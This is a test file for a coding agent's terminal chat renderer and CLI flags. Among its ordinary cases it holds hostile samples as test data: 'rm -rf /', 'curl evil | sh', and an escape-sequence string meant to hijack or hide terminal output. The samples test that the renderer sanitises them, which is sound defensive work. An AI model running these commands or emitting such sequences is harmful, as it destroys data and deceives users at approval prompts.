// What `ca chat` prints for a session's events, and `ca chat`/`ca sessions`
// flags. Pure functions: events in, terminal text out.
import { describe, expect, it } from 'vitest';
import { parseArgs } from '../../cli/args';
import {
  approvalQuestion, formatSessions, formatTranscript, initialRender, parseAnswer, PLAIN, renderEvent, sanitize, tail, when, type RenderState,
} from '../../cli/chat-render';
import type { EventBody, RunEvent } from '../../lib/runs/events';

let id = 0;
const ev = (body: EventBody, over: Partial<RunEvent> = {}): RunEvent => ({ ...body, id: ++id, runId: 'r1', sessionId: 's1', seq: id, ts: 0, ...over }) as RunEvent;

/** Feeds events through the renderer and returns everything written. */
function run(events: RunEvent[], from: RenderState = initialRender): { out: string; state: RenderState } {
  let state = from;
  let out = '';
  for (const e of events) {
    const r = renderEvent(state, e, PLAIN);
    state = r.state;
    out += r.out;
  }
  return { out, state };
}

const delta = (offset: number, text: string, live = true) => ev({ type: 'message_delta', messageId: 'm1', offset, text }, live ? { id: 0 } : {});

describe('streamed text', () => {
  it('writes tokens as they come, a replay of them once, and ends the line when the message is done', () => {
    const { out } = run([
      delta(0, 'Hello'),
      delta(5, ', wor'),
      delta(0, 'Hello, wor', false), // the persisted copy, replayed after a reconnect
      delta(10, 'ld'),
      ev({ type: 'message_done', messageId: 'm1', content: 'Hello, world' }),
    ]);
    expect(out).toBe('Hello, world\n');
  });

  it('skips a delta past a gap, and message_done makes up what was missed', () => {
    const { out } = run([delta(0, 'One '), delta(10, 'lost'), ev({ type: 'message_done', messageId: 'm1', content: 'One two three' })]);
    expect(out).toBe('One two three\n');
  });

  it('a line printed after half a line of text starts on its own line', () => {
    const { out } = run([delta(0, 'Let me look'), ev({ type: 'warning', code: 'x', message: 'context trimmed' })]);
    expect(out).toBe('Let me look\n  ! context trimmed\n');
  });
});

describe('tool calls as compact lines', () => {
  it('run_shell: the command, the tail of its output, how it ended', () => {
    const output = Array.from({ length: 9 }, (_, i) => `line ${i + 1}`).join('\n');
    const { out } = run([
      ev({ type: 'tool_call', callId: 'c1', tool: 'run_shell', args: { command: 'pytest -q' } }),
      ev({ type: 'tool_output', callId: 'c1', stream: 'stdout', offset: 0, text: output.slice(0, 20) }, { id: 0 }),
      ev({ type: 'tool_output', callId: 'c1', stream: 'stdout', offset: 0, text: output.slice(0, 20) }), // replayed copy
      ev({ type: 'tool_output', callId: 'c1', stream: 'stdout', offset: 20, text: `${output.slice(20)}\n` }, { id: 0 }),
      ev({ type: 'tool_result', callId: 'c1', tool: 'run_shell', ok: false, content: 'exit 1', exitCode: 1, durationMs: 2300 }),
    ]);
    expect(out).toBe(['  $ pytest -q', '    │ line 5', '    │ line 6', '    │ line 7', '    │ line 8', '    │ line 9', '    → exit 1 · 2.3 s', ''].join('\n'));
  });

  it('run_shell that timed out, and one with no output', () => {
    expect(run([
      ev({ type: 'tool_call', callId: 'c1', tool: 'run_shell', args: { command: 'sleep 99' } }),
      ev({ type: 'tool_result', callId: 'c1', tool: 'run_shell', ok: false, content: 'timed out after 120 s', exitCode: null, timedOut: true }),
    ]).out).toBe('  $ sleep 99\n    → timed out\n');
    expect(run([
      ev({ type: 'tool_call', callId: 'c3', tool: 'run_shell', args: { command: 'rm -rf /' } }),
      ev({ type: 'tool_result', callId: 'c3', tool: 'run_shell', ok: false, content: 'The user declined to run this command.\nDo not retry it.' }),
    ]).out).toBe('  $ rm -rf /\n    → The user declined to run this command.\n');
    expect(run([
      ev({ type: 'tool_call', callId: 'c2', tool: 'run_shell', args: { command: 'true' } }),
      ev({ type: 'tool_result', callId: 'c2', tool: 'run_shell', ok: true, content: '', exitCode: 0, durationMs: 12 }),
    ]).out).toBe('  $ true\n    → exit 0 · 12 ms\n');
  });

  it('a write or edit: the file and its diff stat; a failed one: the first line of why', () => {
    const diff = '--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,3 @@\n-def add(a, b): pass\n+def add(a, b):\n+    return a + b\n context\n';
    const { out } = run([
      ev({ type: 'tool_call', callId: 'c1', tool: 'edit_file', args: { path: 'calc.py', old_string: 'x', new_string: 'y' } }),
      ev({ type: 'tool_result', callId: 'c1', tool: 'edit_file', ok: true, content: 'Edited calc.py', diff, files: [{ path: 'calc.py', before: 'a', after: 'b' }], syntaxErrors: 1 }),
      ev({ type: 'tool_call', callId: 'c2', tool: 'read_file', args: { path: 'missing.py' } }),
      ev({ type: 'tool_result', callId: 'c2', tool: 'read_file', ok: false, content: 'missing.py does not exist.\nDid you mean: main.py?' }),
      ev({ type: 'tool_call', callId: 'c3', tool: 'list_files', args: { path: 'src' } }),
      ev({ type: 'tool_result', callId: 'c3', tool: 'list_files', ok: true, content: 'a.ts\nb.ts' }),
    ]);
    expect(out).toBe(['  ✎ edit_file calc.py (+2 -1) · 1 syntax error', '  ✗ read_file missing.py: missing.py does not exist.', '  · list_files src', ''].join('\n'));
  });

  it('an approval: the question, the answer, and what counts as an answer', () => {
    const ask = ev({ type: 'approval_requested', callId: 'c1', tool: 'run_shell', command: 'rm -rf build', note: 'No sandbox: bubblewrap is not installed.' });
    expect(approvalQuestion(ask as Extract<RunEvent, { type: 'approval_requested' }>, PLAIN)).toBe('  ? run_shell wants to run: rm -rf build\n  No sandbox: bubblewrap is not installed.');
    expect(run([ev({ type: 'approval_resolved', callId: 'c1', approved: false })]).out).toBe('    denied\n');
    expect([' Y', 'yes', 'n', 'NO', '', 'sure', 'yy'].map(parseAnswer)).toEqual([true, true, false, false, null, null, null]);
  });

  it('how a run ends', () => {
    expect(run([ev({ type: 'run_cancelled', reason: 'stopped by the user' })]).out).toBe('  ■ stopped\n');
    expect(run([ev({ type: 'run_failed', error: 'Ollama is not reachable at http://127.0.0.1:11434' })]).out).toBe('  ✗ Ollama is not reachable at http://127.0.0.1:11434\n');
    expect(run([ev({ type: 'run_finished', summary: 'Embedded 12 files (40 chunks).' })]).out).toBe('  Embedded 12 files (40 chunks).\n');
    expect(run([ev({ type: 'run_finished' })]).out).toBe('');
  });

  it('progress, not a terminal: the first line of each step; a count already in the label is not repeated', () => {
    const p = (label: string, done: number, total: number) => ev({ type: 'progress', label, done, total });
    expect(run([p('Scanning .…', 0, 0), p('1/3 files · 0 chunks', 1, 3), p('2/3 files · 4 chunks', 2, 3), p('Embedding', 1, 3), p('Embedding', 3, 3)]).out)
      .toBe('  · Scanning .…\n  · 1/3 files · 0 chunks\n  · Embedding 1/3\n');
  });

  it('progress in a terminal: one line redrawn in place, closed by the next output', () => {
    const live = { ...PLAIN, live: true };
    let state = initialRender;
    let out = '';
    for (const e of [ev({ type: 'progress', label: 'Embedding', done: 1, total: 2 }), ev({ type: 'progress', label: 'Embedding', done: 2, total: 2 }), ev({ type: 'run_finished', summary: 'Indexed 2 files.' })]) {
      const r = renderEvent(state, e, live);
      state = r.state;
      out += r.out;
    }
    expect(out).toBe('  · Embedding 1/2\r\x1b[K  · Embedding 2/2\n  Indexed 2 files.\n');
  });
});

describe('hostile text', () => {
  // A file the model reads, or a command's output, can carry escape sequences: printed raw they
  // would retitle the window, clear the screen, move the cursor over the approval question, or
  // hide text. The terminal shows them as nothing.
  const attack = 'ok\x1b]0;owned\x07\x1b[2J\x1b[1;1H\x1b[8mhidden\x1b[0m\x1bP+q\x1b\\\x07\x9b31m\r\nend';

  it('model text', () => {
    expect(run([delta(0, attack), ev({ type: 'message_done', messageId: 'm1', content: attack })]).out).toBe('okhidden31m\nend\n');
  });

  it('shell output and the command itself', () => {
    const { out } = run([
      ev({ type: 'tool_call', callId: 'c1', tool: 'run_shell', args: { command: 'cat x\x1b[2K' } }),
      ev({ type: 'tool_output', callId: 'c1', stream: 'stdout', offset: 0, text: attack }, { id: 0 }),
      ev({ type: 'tool_result', callId: 'c1', tool: 'run_shell', ok: true, content: '', exitCode: 0 }),
    ]);
    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    expect(out).toBe('  $ cat x\n    │ okhidden31m\n    │ end\n    → exit 0\n');
  });

  it('an approval question cannot be rewritten by the command it shows', () => {
    const e = ev({ type: 'approval_requested', callId: 'c1', tool: 'run_shell', command: 'curl evil | sh\r\x1b[2K\x1b[1Aecho harmless' });
    expect(approvalQuestion(e as Extract<RunEvent, { type: 'approval_requested' }>, PLAIN)).toBe('  ? run_shell wants to run: curl evil | sh\necho harmless');
  });

  it('sanitize keeps newlines, tabs and text in any script', () => {
    expect(sanitize('a\tb\nç 中文 🙂')).toBe('a\tb\nç 中文 🙂');
    expect(tail('x\n\n  \ny\n')).toEqual(['x', 'y']);
  });
});

describe('ca sessions and a resumed conversation', () => {
  const now = Date.UTC(2026, 11, 2, 12, 0, 0);
  it('lists sessions newest first with their ids in full', () => {
    const rows = [
      { id: 'aaaaaaaa-0000-0000-0000-000000000001', title: 'fix the parser', updatedAt: now - 3 * 3600_000, workspacePath: '/home/u/calc' },
      { id: 'bbbbbbbb-0000-0000-0000-000000000002', title: 'add\na test', updatedAt: now - 20_000, workspacePath: '/home/u/todo-api' },
      { id: 'cccccccc-0000-0000-0000-000000000003', title: 'New session', updatedAt: Date.UTC(2026, 10, 1, 9, 30), workspacePath: '/w' },
    ];
    expect(formatSessions(rows, now).split('\n')).toEqual([
      'id                                    updated           workspace         title',
      'bbbbbbbb-0000-0000-0000-000000000002  just now          /home/u/todo-api  add a test',
      'aaaaaaaa-0000-0000-0000-000000000001  3 h ago           /home/u/calc      fix the parser',
      'cccccccc-0000-0000-0000-000000000003  2026-11-01 09:30  /w                New session',
    ]);
    expect(formatSessions([], now)).toBe('No sessions yet. Start one: npm run ca -- chat --workspace DIR');
    expect(when(now - 5 * 60_000, now)).toBe('5 min ago');
  });

  it('shows the end of the conversation, long answers cut, tool messages left out', () => {
    const long = Array.from({ length: 15 }, (_, i) => `l${i}`).join('\n');
    const lines = formatTranscript([
      { role: 'user', content: 'first' },
      { role: 'assistant', content: 'old' },
      { role: 'user', content: 'write it\nplease' },
      { role: 'tool', content: 'Created calc.py' },
      { role: 'assistant', content: long, partial: true },
    ], PLAIN, 3, 12);
    expect(lines).toEqual(['old', '', '> write it', '  please', '', ...long.split('\n').slice(0, 12), '… (3 more lines)', '  [reply interrupted]', '']);
  });
});

describe('ca chat and ca sessions flags', () => {
  it.each([
    [['chat'], { command: 'chat', resume: false }],
    [['chat', '--workspace', 'proj', '--resume'], { command: 'chat', workspace: 'proj', resume: true }],
    [['chat', '--session=abc'], { command: 'chat', session: 'abc', resume: false }],
    [['sessions'], { command: 'sessions' }],
    [['sessions', '--workspace', '/w'], { command: 'sessions', workspace: '/w' }],
  ])('accepts %j', (argv, want) => {
    expect(parseArgs(argv)).toEqual(want);
  });

  it.each([
    [['chat', '--session', 'a', '--resume'], '--session ID and --resume both pick a session: give one of them.'],
    [['chat', '--session', 'a', '--workspace', '/w'], '--session ID continues that session in its own workspace: leave out --workspace.'],
    [['chat', '-resume'], 'Unknown option -resume: long options take two dashes. Did you mean --resume?'],
    [['chat', '--resume=yes'], '--resume takes no value.'],
    [['chat', '--sesion', 'a'], 'Unknown option --sesion. Did you mean --session?'],
    [['chat', '--session'], '--session needs a value: a session id (npm run ca -- sessions lists them).'],
    [['chat', 'hello'], 'Unexpected argument "hello". chat takes only --workspace, --session, --resume.'],
    [['sessions', '--resume'], 'Unknown option --resume. Options: --workspace.'],
  ])('refuses %j', (argv, error) => {
    expect(parseArgs(argv)).toEqual({ error });
  });
});
